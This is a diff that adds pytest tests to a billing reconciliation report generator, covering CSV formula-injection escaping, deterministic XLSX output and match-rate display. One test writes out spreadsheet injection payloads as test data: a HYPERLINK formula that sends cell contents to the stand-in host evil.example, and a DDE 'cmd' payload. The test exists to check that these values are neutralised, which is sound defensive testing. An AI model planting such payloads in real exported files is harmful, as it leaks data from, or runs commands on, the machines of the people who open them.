@@ -276,3 +276,81 @@ def test_an_invoice_row_without_usage_rows_is_counted_and_its_customer_too(recon
     with_usage = set(files.data.lines.filter(pl.col("currency") == "usd")["customer_id"])
     assert "cus_z" not in with_usage and usd.customers == len(with_usage) + 1
     assert "not_invoiced 1" in files.html.read_text()
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(isolated_env, tmp_path):
+    """Customer ids like '=HYPERLINK(...)' went into the CSVs verbatim: a spreadsheet opening them runs
+    the formula. They get a leading apostrophe now; numbers, negative ones too, are left alone."""
+    from recon_fixture import reconciled_frames
+
+    from metering.warehouse import replace_rows
+
+    evil = {"cus_b": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "cus_c": "+1+cmd|' /C calc'!A0",
+            "cus_d": "@SUM(1+1)", "cus_e": "-2+3"}
+    usage, invoices = (f.with_columns(pl.col("customer_id").replace(evil)) for f in reconciled_frames())
+    with warehouse.open_warehouse(tmp_path / "w.duckdb") as con:
+        replace_rows(con, "usage_reconciliation", "billing_month = ?", [MONTH], usage)
+        replace_rows(con, "invoice_reconciliation", "billing_month = ?", [MONTH], invoices)
+        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
+    expected = ["cus_a", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0",
+                "'@SUM(1+1)", "'-2+3", "cus_j"]
+    for name in ("lines", "invoices", "discrepancies"):
+        with open(files.folder / f"{name}.csv", newline="") as fh:
+            rows = list(csv.DictReader(fh))
+        assert sorted({r["customer_id"] for r in rows}) == sorted(
+            c for c in expected if name != "discrepancies" or c not in ("cus_a", "cus_j")), name
+    with open(files.folder / "discrepancies.csv", newline="") as fh:
+        disc = list(csv.DictReader(fh))
+    assert [(r["amount_diff_minor"], r["quantity_diff"]) for r in disc] == [
+        ("-1000", "-1"), ("75", "0"), ("-20", "-100"), ("20", "100")]
+    with open(files.folder / "summary.csv", newline="") as fh:
+        assert ["difference_minor", "usd", "-924"] in list(csv.reader(fh))
+    # the spreadsheet keeps the ids as they are: it writes no formulas at all
+    book = openpyxl.load_workbook(files.xlsx, read_only=True)
+    lines = list(book["lines"].iter_rows(values_only=True))
+    assert {r[lines[0].index("customer_id")] for r in lines[1:]} == {"cus_a", *evil.values(), "cus_j"}
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("=1+1", "'=1+1"), ("+1", "+1"), ("+cmd", "'+cmd"), ("-1.25", "-1.25"), ("-12", "-12"), ("-", "'-"),
+    ("-1.", "'-1."), ("-cus", "'-cus"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("cus_a", "cus_a"), ("", ""), ("2026-10-01", "2026-10-01"), (-5, -5), (7, 7)])
+def test_csv_cell_escapes_formula_text_but_not_numbers(cell, written):
+    from metering.reports.writers import _csv_cell
+
+    assert _csv_cell(cell) == written
+
+
+def test_xlsx_is_byte_identical_for_the_same_generated_at(reconciled_warehouse, tmp_path):
+    """core.xml's created/modified were the wall clock; now generated_at, and the zip entries' fixed stamp."""
+    import zipfile
+
+    with warehouse.open_warehouse(reconciled_warehouse) as con:
+        first = write_report(con, MONTH, tmp_path / "a", generated_at=NOW)
+        second = write_report(con, MONTH, tmp_path / "b", generated_at=NOW)
+    assert first.xlsx.read_bytes() == second.xlsx.read_bytes()
+    with zipfile.ZipFile(first.xlsx) as z:
+        core = z.read("docProps/core.xml").decode()
+        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+    assert '<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-02T09:30:00Z</dcterms:created>' in core
+    assert '<dcterms:modified xsi:type="dcterms:W3CDTF">2026-11-02T09:30:00Z</dcterms:modified>' in core
+
+
+def test_match_rate_of_a_currency_without_usage_rows_is_na_everywhere(reconciled_warehouse, tmp_path):
+    """cus_f pays a flat fee in EUR: an invoice row, no usage row. Its match rate was "100.0%"."""
+    with warehouse.open_warehouse(reconciled_warehouse) as con:
+        con.execute("""INSERT INTO invoice_reconciliation SELECT * REPLACE ('cus_f' AS customer_id, 'eur' AS currency)
+                       FROM invoice_reconciliation WHERE customer_id = 'cus_j'""")
+        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
+    eur = next(t for t in files.data.totals if t.currency == "eur")
+    assert (eur.rows, eur.match_rate, eur.match_rate_text("%")) == (0, None, "n/a")
+    with open(files.folder / "summary.csv", newline="") as fh:
+        rates = [r for r in csv.reader(fh) if r[0] == "match_rate_percent"]
+    assert rates == [["match_rate_percent", "eur", "n/a"], ["match_rate_percent", "jpy", "100.0"],
+                     ["match_rate_percent", "usd", "33.3"]]
+    book = openpyxl.load_workbook(files.xlsx, read_only=True)
+    summary = {(m, c): v for m, c, v in list(book["summary"].iter_rows(values_only=True))[1:]}
+    assert (summary[("match_rate_percent", "eur")], summary[("match_rate_percent", "usd")]) == ("n/a", "33.3")
+    cards = dict(re.findall(r'<div class="card" id="(match-rate-\w+)"><div class="k">[^<]*</div>'
+                            r'<div class="v">([^<]*)<', files.html.read_text()))
+    assert cards == {"match-rate-eur": "n/a", "match-rate-jpy": "100.0%", "match-rate-usd": "33.3%"}
